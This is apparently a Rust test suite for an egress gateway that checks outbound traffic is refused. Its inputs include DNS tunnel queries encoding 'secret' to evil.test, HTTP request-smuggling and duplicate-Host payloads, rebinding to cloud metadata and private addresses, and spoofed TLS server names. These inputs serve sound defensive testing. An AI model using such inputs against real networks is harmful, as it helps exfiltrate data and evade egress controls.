//! Ways out that are refused: no byte, query or connection reaches the outside.
//!
//! Each test names a way; `Outside` records every resolved name and dialled address.

mod harness;

use std::net::Ipv4Addr;
use std::time::Duration;

use aifo_egress::{AddressClass, ConnectionError, Limits, NameVerdict, Phase};
use harness::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

const ACCESS_DENIED: u8 = 49;
const DECODE_ERROR: u8 = 50;
const UNRECOGNIZED_NAME: u8 = 112;

/// Asserts that nothing left the gateway.
#[track_caller]
fn nothing_left(outside: &Outside) {
    assert_eq!(outside.resolved(), [""; 0]);
    assert_eq!(outside.dialled(), []);
}

/// Returns the alert in a client's bytes.
fn alert(bytes: &[u8]) -> u8 {
    assert_eq!(bytes[..bytes.len() - 1], [21, 3, 1, 0, 2, 2]);
    bytes[6]
}

/// A stack with a permitted name of each protocol, outside which nothing may be reached.
async fn stack(outside: &Outside) -> World {
    outside.name("tls.test", &[PUBLIC]).name("http.test", &[PUBLIC]).name("raw.test", &[PUBLIC]);
    let rules = ["tls.test:PORT tls", "http.test:PORT http", "raw.test:PORT", "*.wild.test:PORT"];
    start(&rules, outside).await
}

#[tokio::test]
async fn dns_tunnel_in_txt_queries() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    assert_eq!(world.ask("c2VjcmV0.evil.test", TXT).await, (3, Vec::new()));
    let event = world.event().await;
    assert_eq!((event.name.as_str(), event.port), ("c2vjcmv0.evil.test", None));
    assert_eq!((event.verdict, event.error), (NameVerdict::Refused, Some(ConnectionError::NoRule)));
    // Also below permitted names, which are never looked up for a query.
    for name in ["c2VjcmV0.tls.test", "tls.test", "c2VjcmV0.wild.test", "_a._b.tls.test"] {
        assert_eq!(world.ask(name, TXT).await.1, [0; 0], "{name}");
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn dns_tunnel_in_long_labels() {
    let outside = Outside::default();
    let world = stack(&outside).await;
    let label = "a".repeat(63);
    for (name, code) in [
        (format!("{label}.{label}.{label}.evil.test"), 3),
        (format!("{label}.{label}.{label}.wild.test"), 0),
        (format!("{label}.{label}.{label}.{label}.wild.test"), 1),
        (format!("{label}a.wild.test"), 1),
    ] {
        assert_eq!(world.ask(&name, TXT).await, (code, Vec::new()), "{name}");
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn dns_tunnel_over_tcp() {
    let outside = Outside::default();
    let world = stack(&outside).await;
    let mut dns = world.connect_dns().await;
    for index in 0..50 {
        let query = query(&format!("{index}.evil.test"), TXT);
        let framed = [&(query.len() as u16).to_be_bytes()[..], &query].concat();
        dns.write_all(&framed).await.unwrap();
        let mut response = vec![0; framed.len()];
        soon(dns.read_exact(&mut response)).await.unwrap();
        assert_eq!(response[5] & 0xf, 3);
    }
    // A long message ends the connection.
    dns.write_all(&[0xff, 0xff, 0]).await.unwrap();
    assert_eq!(read_all(&mut dns).await, b"");
    nothing_left(&outside);
}

#[tokio::test]
async fn dns_over_another_server() {
    // Port 53 of a name has no rule, and a rule for it is an error.
    assert!(aifo_egress::NetRules::parse(&["resolver.test:53".to_owned()]).is_err());
}

#[tokio::test]
async fn ipv6() {
    let outside = Outside::default();
    let world = stack(&outside).await;
    for name in ["tls.test", "http.test", "x.wild.test"] {
        assert_eq!(world.ask(name, AAAA).await, (0, Vec::new()), "{name}");
    }
    assert_eq!(world.ask("evil.test", AAAA).await, (3, Vec::new()));
    nothing_left(&outside);
}

#[tokio::test]
async fn service_bindings_and_encrypted_hello_keys() {
    let outside = Outside::default();
    let world = stack(&outside).await;
    for kind in [64, 65] {
        assert_eq!(world.ask("tls.test", kind).await, (0, Vec::new()), "{kind}");
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn reverse_lookups() {
    let outside = Outside::default();
    let world = stack(&outside).await;
    for name in ["8.8.8.8.in-addr.arpa", "9.9.64.127.in-addr.arpa", "1.ip6.arpa"] {
        assert_eq!(world.ask(name, PTR).await, (3, Vec::new()), "{name}");
    }
    assert_eq!(world.ask("1.0.64.127.in-addr.arpa", PTR).await.0, 0);
    nothing_left(&outside);
}

#[tokio::test]
async fn malformed_queries() {
    let outside = Outside::default();
    let world = stack(&outside).await;
    let mut loops = query("", TXT);
    loops.splice(12..13, [0xc0, 12]);
    let response = world.exchange(&loops).await;
    assert_eq!(response[3] & 0xf, 1);
    nothing_left(&outside);
}

#[tokio::test]
async fn addresses_without_a_name() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    for address in ["127.0.0.1", "127.64.0.0", "127.64.200.1", "127.127.255.255"] {
        let address: Ipv4Addr = address.parse().unwrap();
        let mut client = TcpStream::connect((address, world.port)).await.unwrap();
        let event = world.event().await;
        assert_eq!(event.name, address.to_string());
        assert_eq!(event.error, Some(ConnectionError::UnknownAddress));
        assert_eq!(read_all(&mut client).await, b"");
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn names_without_a_rule() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    for name in ["evil.test", "wild.test", "x.tls.test", "tls.test.evil.test"] {
        assert_eq!(world.look_up(name).await, Err(3), "{name}");
        let event = world.event().await;
        assert_eq!(event.hint(), Some(format!("aifo-coder net allow {name}")));
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn a_flood_of_refused_names_is_a_bounded_number_of_events() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    let started = std::time::Instant::now();
    for index in 0..600 {
        assert_eq!(world.look_up(&format!("{index}.evil.test")).await, Err(3));
    }
    let seconds = started.elapsed().as_secs() as usize + 1;
    let count = world.count_events();
    assert!((256..=256 * (seconds + 1)).contains(&count), "{count} events in {seconds} s");
    nothing_left(&outside);
}

#[tokio::test]
async fn another_port_of_a_permitted_name() {
    let outside = Outside::default();
    let mut world = start(&["a.test:PORT", "b.test:1"], &outside).await;
    let mut client = world.connect("b.test").await;
    let event = world.event().await;
    assert_eq!(event.error, Some(ConnectionError::NoRule));
    assert_eq!(event.hint(), Some(format!("aifo-coder net allow b.test:{}", world.port)));
    assert_eq!(read_all(&mut client).await, b"");
    nothing_left(&outside);
}

#[tokio::test]
async fn server_names() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    let rows: [(&[&str], usize, &str, u8); 6] = [
        (&["evil.test"], 0, "its ClientHello has the server name 'evil.test'", UNRECOGNIZED_NAME),
        (&["http.test"], 0, "its ClientHello has the server name 'http.test'", UNRECOGNIZED_NAME),
        (&[], 0, "its ClientHello has no server name", UNRECOGNIZED_NAME),
        (&["tls.test", "evil.test"], 0, "its ClientHello has two server names", DECODE_ERROR),
        (&["93.184.216.34"], 0, "the server name of its ClientHello is no host name", DECODE_ERROR),
        (
            &["tls.test\0.evil.test"],
            0,
            "the server name of its ClientHello is no host name",
            DECODE_ERROR,
        ),
    ];
    for (names, padding, cause, description) in rows {
        let hello = client_hello(names, padding);
        let (error, answer) = world.send_refused("tls.test", &hello).await;
        assert_eq!(error.to_string(), cause, "{names:?}");
        assert_eq!(alert(&answer), description, "{names:?}");
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn other_protocols_on_the_port_of_tls() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    let http = "GET / HTTP/1.1\r\nHost: tls.test\r\n\r\n";
    for bytes in [&b"SSH-2.0-OpenSSH\r\n"[..], http.as_bytes(), b"\0", &[22, 3, 1, 0, 1, 2]] {
        let (error, answer) = world.send_refused("tls.test", bytes).await;
        assert_eq!(error, ConnectionError::NotTls, "{bytes:?}");
        assert_eq!(alert(&answer), ACCESS_DENIED);
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn an_oversized_hello() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    let mut hello = client_hello(&["tls.test"], 16_000);
    // The message's length is beyond the limit.
    hello[6] = 1;
    let (error, answer) = world.send_refused("tls.test", &hello).await;
    assert_eq!(error.to_string(), "its ClientHello has more than 32768 bytes");
    assert_eq!(alert(&answer), DECODE_ERROR);
    nothing_left(&outside);
}

#[tokio::test]
async fn slow_and_incomplete_first_bytes() {
    let outside = Outside::default();
    let limit = Duration::from_millis(100);
    let rules = ["tls.test:PORT tls", "http.test:PORT http"];
    let mut world = start_with(&rules, &outside, |gateway| gateway.with_limits(short(limit))).await;
    let hello = client_hello(&["tls.test"], 0);
    let request = format!("GET / HTTP/1.1\r\nHost: http.test:{}\r\n", world.port);
    for (name, bytes) in [("tls.test", &hello[..20]), ("http.test", request.as_bytes())] {
        let (error, answer) = world.send_refused(name, bytes).await;
        assert_eq!(error, ConnectionError::FirstBytesTimeout(limit));
        match name {
            "tls.test" => assert_eq!(alert(&answer), ACCESS_DENIED),
            _ => assert!(answer.starts_with(b"HTTP/1.1 408 ")),
        }
        let mut client = world.connect(name).await;
        client.write_all(bytes).await.unwrap();
        client.shutdown().await.unwrap();
        assert_eq!(world.refused().await, ConnectionError::FirstBytesEnded);
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn rebinding_to_refused_addresses() {
    let rows = [
        ("127.0.0.1", AddressClass::Loopback),
        ("::1", AddressClass::Loopback),
        ("::ffff:127.0.0.1", AddressClass::Loopback),
        ("0.0.0.0", AddressClass::Unspecified),
        ("10.1.2.3", AddressClass::Private),
        ("192.168.0.1", AddressClass::Private),
        ("fd00::1", AddressClass::Private),
        ("100.64.0.1", AddressClass::Shared),
        ("169.254.169.254", AddressClass::Metadata),
        ("fd00:ec2::254", AddressClass::Metadata),
        ("64:ff9b::a9fe:a9fe", AddressClass::Metadata),
        ("169.254.1.1", AddressClass::LinkLocal),
        ("224.0.0.1", AddressClass::Multicast),
    ];
    for (address, class) in rows {
        let outside = Outside::default();
        outside.name("a.test", &[address]);
        let mut world = start(&["a.test:PORT tls"], &outside).await;
        let hello = client_hello(&["a.test"], 0);
        let (error, answer) = world.send_refused("a.test", &hello).await;
        assert_eq!(error, ConnectionError::Address { address: address.parse().unwrap(), class });
        assert_eq!(alert(&answer), ACCESS_DENIED);
        assert_eq!(outside.dialled(), [], "{address}");
    }
}

/// As behind a proxy that gives each name an address for benchmarks.
#[tokio::test]
async fn addresses_of_subnets_that_the_user_permits() {
    let (listener, address) = server().await;
    let outside = Outside::default();
    outside.name("a.test", &["198.18.0.7"]).name("own.test", &["127.0.0.1"]);
    outside.server("198.18.0.7", address);
    let permitted = ["198.18.0.0/15", "0.0.0.0/0"].map(|subnet| subnet.parse().unwrap());
    let mut world = start_with(&["a.test:PORT", "own.test:PORT tls"], &outside, |gateway| {
        gateway.with_addresses(&permitted)
    })
    .await;
    let _client = world.connect("a.test").await;
    let _host = soon(listener.accept()).await.unwrap();
    assert_eq!(world.event().await.phase, Phase::Opened);
    let hello = client_hello(&["own.test"], 0);
    let (error, _) = world.send_refused("own.test", &hello).await;
    assert!(
        matches!(error, ConnectionError::Address { class: AddressClass::Loopback, .. }),
        "{error}"
    );
}

#[tokio::test]
async fn rebinding_between_connections() {
    let (listener, address) = server().await;
    let outside = Outside::default();
    outside.name("a.test", &["10.0.0.1", PUBLIC]).name("a.test", &["10.0.0.1"]);
    outside.server(PUBLIC, address).server("10.0.0.1", address);
    let limits = Limits { cache: Duration::ZERO, ..Limits::default() };
    let mut world =
        start_with(&["a.test:PORT"], &outside, |gateway| gateway.with_limits(limits)).await;
    let _client = world.connect("a.test").await;
    let _host = soon(listener.accept()).await.unwrap();
    assert_eq!(world.event().await.phase, Phase::Opened);
    let mut client = world.connect("a.test").await;
    assert!(matches!(world.refused().await, ConnectionError::Address { .. }));
    assert_eq!(read_all(&mut client).await, b"");
    let public = format!("{PUBLIC}:{}", world.port).parse().unwrap();
    assert_eq!(outside.dialled(), [public], "only the permitted one of two addresses");
}

#[tokio::test]
async fn hosts_of_requests() {
    let outside = Outside::default();
    let mut world = stack(&outside).await;
    let port = world.port;
    let host = format!("Host: http.test:{port}\r\n");
    let rows = [
        (format!("GET / HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n"), "names the host"),
        ("GET / HTTP/1.1\r\nHost: http.test\r\n\r\n".to_owned(), "names the host"),
        (format!("GET / HTTP/1.1\r\n{host}Host: evil.test\r\n\r\n"), "has 2 Host headers"),
        ("GET / HTTP/1.1\r\n\r\n".to_owned(), "has 0 Host headers"),
        (format!("GET http://evil.test/ HTTP/1.1\r\n{host}\r\n"), "names the host 'evil.test'"),
        (format!("GET https://http.test/ HTTP/1.1\r\n{host}\r\n"), "asks for a proxy"),
        (format!("CONNECT evil.test:443 HTTP/1.1\r\n{host}\r\n"), "asks for a proxy"),
        (format!("GET / HTTP/1.1\r\n{host} evil.test\r\n\r\n"), "is not HTTP/1"),
        (format!("GET / HTTP/1.1\n{host}\n"), "is not HTTP/1"),
        (format!("GET / HTTP/1.1\r\n{host}X: y\rHost: evil.test\r\n\r\n"), "is not HTTP/1"),
        ("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_owned(), "is not HTTP/1"),
        ("SSH-2.0-OpenSSH\r\n\r\n".to_owned(), "is not HTTP/1"),
        (
            format!(
                "POST / HTTP/1.1\r\n{host}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
            ),
            "has an ambiguous length",
        ),
        (
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\nx"),
            "has a malformed chunked body",
        ),
        (
            format!("GET / HTTP/1.1\r\n{host}x: {}\r\n\r\n", "y".repeat(40_000)),
            "has a head of more",
        ),
    ];
    for (request, cause) in rows {
        let (error, response) = world.send_refused("http.test", request.as_bytes()).await;
        assert!(error.to_string().contains(cause), "{request:?}: {error}");
        let response = String::from_utf8(response).unwrap();
        assert!(response.starts_with("HTTP/1.1 403 Forbidden\r\n"), "{request:?}: {response}");
        assert!(response.contains(&format!("aifo: http.test:{port}: {error}\n")), "{response}");
    }
    nothing_left(&outside);
}

#[tokio::test]
async fn a_second_request_to_another_host() {
    let second = "GET /secret HTTP/1.1\r\nHost: evil.test\r\n\r\n";
    let rows = [
        ("GET", "", "", ""),
        ("POST", "Content-Length: 2\r\n", "ab", "ab"),
        ("POST", "Transfer-Encoding: chunked\r\n", "2\r\nab\r\n0\r\n\r\n", "0\r\n\r\n"),
        ("GET", "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n", "", ""),
    ];
    for (method, headers, body, last) in rows {
        let (listener, address) = server().await;
        let outside = Outside::default();
        outside.name("a.test", &[PUBLIC]).server(PUBLIC, address);
        let world = start(&["a.test:PORT http"], &outside).await;
        let mut client = world.connect("a.test").await;
        let host = format!("Host: a.test:{}\r\n", world.port);
        let request = format!("{method} / HTTP/1.1\r\n{host}{headers}\r\n{body}{second}");
        client.write_all(request.as_bytes()).await.unwrap();
        let (mut server, _) = soon(listener.accept()).await.unwrap();
        read_until(&mut server, &format!("\r\n\r\n{}", &body[..body.len() - last.len()])).await;
        client.write_all(second.as_bytes()).await.unwrap();
        client.shutdown().await.unwrap();
        let rest = String::from_utf8(read_all(&mut server).await).unwrap();
        assert!(!rest.contains("secret") && !rest.contains("Upgrade"), "{headers}: {rest}");
        server.write_all(b"HTTP/1.1 200 OK\r\n\r\nok").await.unwrap();
        drop(server);
        assert!(read_all(&mut client).await.ends_with(b"ok"));
    }
}

#[tokio::test]
async fn a_redirect_to_another_name() {
    let (listener, address) = server().await;
    let outside = Outside::default();
    outside.name("a.test", &[PUBLIC]).server(PUBLIC, address);
    let world = start(&["a.test:PORT http"], &outside).await;
    let mut client = world.connect("a.test").await;
    let request = format!("GET / HTTP/1.1\r\nHost: a.test:{}\r\n\r\n", world.port);
    client.write_all(request.as_bytes()).await.unwrap();
    let (mut server, _) = soon(listener.accept()).await.unwrap();
    read_until(&mut server, "\r\n\r\n").await;
    server.write_all(b"HTTP/1.1 302 Found\r\nLocation: http://evil.test/\r\n\r\n").await.unwrap();
    drop(server);
    read_until(&mut client, "evil.test").await;
    assert_eq!(world.look_up("evil.test").await, Err(3));
    assert_eq!(outside.resolved(), ["a.test"]);
}

#[tokio::test]
async fn more_connections_than_the_limit() {
    let outside = Outside::default();
    outside.name("a.test", &[PUBLIC]).silent(PUBLIC);
    let limits = Limits { connections: 2, ..Limits::default() };
    let mut world =
        start_with(&["a.test:PORT"], &outside, |gateway| gateway.with_limits(limits)).await;
    let _first = world.connect("a.test").await;
    let second = world.connect("a.test").await;
    let mut third = world.connect("a.test").await;
    let event = world.event().await;
    assert_eq!(event.error, Some(ConnectionError::TooMany(2)));
    assert_eq!(event.peer, Some(third.local_addr().unwrap()));
    assert_eq!(third.read(&mut [0]).await.unwrap_err().kind(), std::io::ErrorKind::ConnectionReset);
    drop(second);
}

#[tokio::test]
async fn a_parent_proxy_for_names_without_a_rule() {
    let outside = Outside::default();
    outside.name("proxy.test", &["10.0.0.9"]);
    let parent = aifo_egress::ParentProxy::parse("http://proxy.test:3128").unwrap();
    let mut world =
        start_with(&["a.test:PORT tls"], &outside, |gateway| gateway.with_parent_proxy(parent))
            .await;
    assert_eq!(world.look_up("evil.test").await, Err(3));
    assert_eq!(world.event().await.name, "evil.test");
    let (error, _) = world.send_refused("a.test", &client_hello(&["evil.test"], 0)).await;
    assert!(matches!(error, ConnectionError::OtherSni(_)), "{error}");
    nothing_left(&outside);
}
